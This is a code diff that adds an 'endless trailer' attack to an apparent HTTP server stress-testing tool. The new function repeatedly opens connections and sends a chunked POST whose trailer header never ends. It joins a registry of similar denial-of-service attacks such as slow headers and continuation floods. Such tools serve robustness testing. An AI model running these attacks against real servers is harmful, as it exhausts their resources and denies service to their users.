@@ -122,6 +122,14 @@ def endless_headers(target: Target, end: float) -> None:
         _pour(target, made, b"GET / HTTP/1.1\r\n", line * 16, end)
 
 
+def endless_trailer(target: Target, end: float) -> None:
+    """Send a body whose trailer never ends, on one connection after another."""
+    head = f"POST /api/frames HTTP/1.1\r\n{target.who()}Transfer-Encoding: chunked\r\n\r\n"
+    opening = head.encode() + b"1\r\n{\r\n0\r\nX-Endless: "
+    for made in _one_after_another(target.connect, end):
+        _pour(target, made, opening, b"x" * 65536, end)
+
+
 def slow_headers(target: Target, end: float) -> None:
     """Send many heads, a line every half second."""
     _hold(target, end, SLOW, target.connect, b"GET / HTTP/1.1\r\n", b"X-Slow: x\r\n")
@@ -203,6 +211,7 @@ ATTACKS: dict[str, Attack] = {
     "continuation flood": flood(OPEN_TEXT + EMPTY, (REST + EMPTY) * AT_ONCE),
     "unread pongs": unread_pongs,
     "endless headers": endless_headers,
+    "endless trailer": endless_trailer,
     "slow headers": slow_headers,
     "idle connections": idle,
     "unread data": unread_data,
